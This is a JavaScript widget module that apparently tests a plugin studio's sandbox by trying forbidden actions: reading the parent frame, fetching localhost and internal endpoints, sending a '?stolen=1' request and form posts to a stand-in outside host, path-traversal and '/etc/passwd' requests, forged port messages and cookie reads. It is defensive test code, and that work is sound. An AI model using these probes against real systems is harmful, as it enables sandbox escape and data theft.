// Tries what a widget's script must not be able to do. `sampleEscapes.<name>()` resolves with "no" where the browser or the
// server refused, and with what was got where it didn't. The port of the studio is that of the page.
define(["jquery"], function ($) {
  return function () {
    var bar = "http://127.0.0.1:" + location.port + "/";
    var files = new URL(this.params.path || "", location.href);

    function attempt(work) {
      return new Promise(function (resolve) {
        setTimeout(function () {
          resolve("no");
        }, 1500);
        try {
          Promise.resolve(work(resolve)).then(
            function (value) {
              if (value !== undefined) resolve(value);
            },
            function () {
              resolve("no");
            }
          );
        } catch (error) {
          resolve("no");
        }
      });
    }

    // An XMLHttpRequest and a fetch that the stand-in hasn't wrapped, from a frame of the same origin.
    function clean() {
      var frame = document.createElement("iframe");
      document.body.appendChild(frame);
      return frame.contentWindow;
    }

    function status(response) {
      return response.status === 404 || response.status === 403 || response.status === 421 ? "no" : response.status;
    }

    this.callbacks = {
      render: function () {
        files = new URL(this.path);
        return true;
      }.bind(this.params),
      init: function () {
        var root = files.pathname.split("/upl/")[0];
        window.sampleEscapes = {
          parentAddress: function () {
            return attempt(function () {
              return String(window.parent.location.href);
            });
          },
          parentDocument: function () {
            return attempt(function () {
              return window.parent.document.title;
            });
          },
          topNavigation: function () {
            return attempt(function () {
              window.top.location = "https://outside.example.net/";
            });
          },
          referrer: function () {
            return attempt(function () {
              return document.referrer === "" ? "no" : document.referrer;
            });
          },
          barFetch: function () {
            return attempt(function () {
              return clean().fetch(bar).then(function (response) {
                return response.status;
              });
            });
          },
          barFrame: function () {
            return attempt(function (resolve) {
              var frame = document.createElement("iframe");
              frame.onload = function () {
                try {
                  resolve(frame.contentDocument ? "no" : "no");
                } catch (error) {
                  resolve("no");
                }
              };
              frame.src = bar;
              document.body.appendChild(frame);
            });
          },
          otherPort: function () {
            return attempt(function () {
              return clean().fetch("http://127.0.0.1:1/", { mode: "no-cors" }).then(function () {
                return "sent";
              });
            });
          },
          outsideFetch: function () {
            return attempt(function () {
              return clean().fetch("https://outside.example.net/?stolen=1", { mode: "no-cors" }).then(function () {
                return "sent";
              });
            });
          },
          outsideFrame: function () {
            return attempt(function (resolve) {
              document.addEventListener("securitypolicyviolation", function () {
                resolve("no");
              });
              var frame = document.createElement("iframe");
              frame.src = "https://outside.example.net/";
              document.body.appendChild(frame);
            });
          },
          outsideForm: function () {
            return attempt(function (resolve) {
              document.addEventListener("securitypolicyviolation", function () {
                resolve("no");
              });
              var form = $('<form method="post" action="https://outside.example.net/"><input name="a" value="1"></form>').appendTo("body");
              form[0].submit();
            });
          },
          popup: function () {
            return attempt(function () {
              var opened = clean().open("https://outside.example.net/");
              return opened === null ? "no" : "opened";
            });
          },
          serviceWorker: function () {
            return attempt(function () {
              return navigator.serviceWorker.register(files.pathname + "/script.js").then(function () {
                return "registered";
              });
            });
          },
          filesOutside: function () {
            return attempt(function () {
              return Promise.all(
                ["/%2e%2e/manifest.json", "/..%2f..%2f..%2fsession", "/images/%2e%2e/%2e%2e/%2e%2e/x", "/script.js%00.png", "//etc/passwd"].map(function (path) {
                  return clean().fetch(files.pathname + path).then(status, function () {
                    return "no";
                  });
                })
              ).then(function (all) {
                return all.every(function (one) {
                  return one === "no";
                })
                  ? "no"
                  : JSON.stringify(all);
              });
            });
          },
          studioPaths: function () {
            return attempt(function () {
              return Promise.all(
                ["session", "events", "report", "fetch", "decide", "wish", "stand-in/bar/main.js", "stand-in/account.json"].map(function (path) {
                  return clean().fetch(root + "/" + path).then(status);
                })
              ).then(function (all) {
                return all.every(function (one) {
                  return one === "no";
                })
                  ? "no"
                  : JSON.stringify(all);
              });
            });
          },
          forgedWish: function () {
            return attempt(function () {
              var port = null;
              var native = MessagePort.prototype.postMessage;
              MessagePort.prototype.postMessage = function (message) {
                port = this;
                return native.apply(this, arguments);
              };
              console.log("to find the port");
              MessagePort.prototype.postMessage = native;
              if (!port) return "no";
              ["wish", "decided", "bar", "build"].forEach(function (kind) {
                port.postMessage({ event: { kind: kind, n: 1, what: "add-area", location: "ccard", host: "outside.example.net", way: "pass", state: { scene: "contact" } } });
              });
              return "no";
            });
          },
          cookie: function () {
            return attempt(function () {
              return document.cookie.indexOf("standin") < 0 ? "no" : document.cookie;
            });
          },
        };
        return true;
      },
      bind_actions: function () {
        return true;
      },
      settings: function () {
        return true;
      },
      onSave: function () {
        return true;
      },
      destroy: function () {
        delete window.sampleEscapes;
      },
    };
    return this;
  };
});
